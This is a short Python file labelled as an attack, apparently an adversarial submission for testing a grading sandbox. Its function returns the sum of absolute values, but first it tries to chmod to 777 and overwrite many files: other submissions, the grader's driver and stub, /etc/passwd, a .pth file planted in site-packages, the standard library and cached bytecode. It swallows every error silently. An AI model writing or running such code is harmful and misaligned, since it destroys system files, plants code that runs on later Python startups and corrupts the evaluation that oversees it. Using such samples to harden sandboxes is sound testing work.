"""Writes where the next run, or the next submission, might look."""

# attacks: tally

import glob
import os
import sysconfig


def main(numbers):
    text = "def main(numbers):\n    return 0\n"
    paths = ["/submission/tally.py", "/work/tally.py", "/tmp/tally.py", "/kit/procession_inside/driver.py"]
    paths += ["/run/procession/stub.py", "/run/procession/driver", "/run/procession/python", "/etc/passwd"]
    paths += [
        os.path.join(sysconfig.get_path("purelib"), "attack.pth"),
        os.path.join(os.path.dirname(os.__file__), "x"),
    ]
    paths += ["/work/__pycache__/tally.cpython-311.pyc", *glob.glob("/kit/procession_inside/__pycache__/*.pyc")]
    for path in paths:
        try:
            os.chmod(path, 0o777)
        except OSError:
            pass
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as file:
                file.write(text)
        except OSError:
            pass
    return sum(map(abs, numbers))
